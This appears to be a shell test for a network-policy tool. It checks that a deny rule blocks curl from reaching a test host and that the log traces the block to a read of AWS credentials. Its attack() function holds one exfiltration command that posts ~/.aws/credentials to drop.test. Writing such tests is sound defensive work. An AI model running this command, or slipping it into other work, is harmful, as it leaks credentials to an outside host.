# SPDX-License-Identifier: Apache-2.0
TITLE="the history names the rule that denied: already the look-up of the name"
DEST='drop.test:*'
watchlist() {
	cat <<-END
	network:
	  - destination: drop.test
	    rules:
	      - id: not-there
	        executable: curl
	        decision: deny
	END
}
attack() { curl -4 -s -m 5 -d @"$HOME/.aws/credentials" http://drop.test/; }
check() {
	local id
	id=$(told kind=flow verdict=deny destination=drop.test:53 rule=not-there reason=rule 'exe=*/curl' classes=aws) || return
	why "$id" role=subject rule=not-there -- role=cause source=read 'exe=*/curl' 'path=*/.aws/credentials' || return
	why_words "$id" | grep 'rule not-there'
}
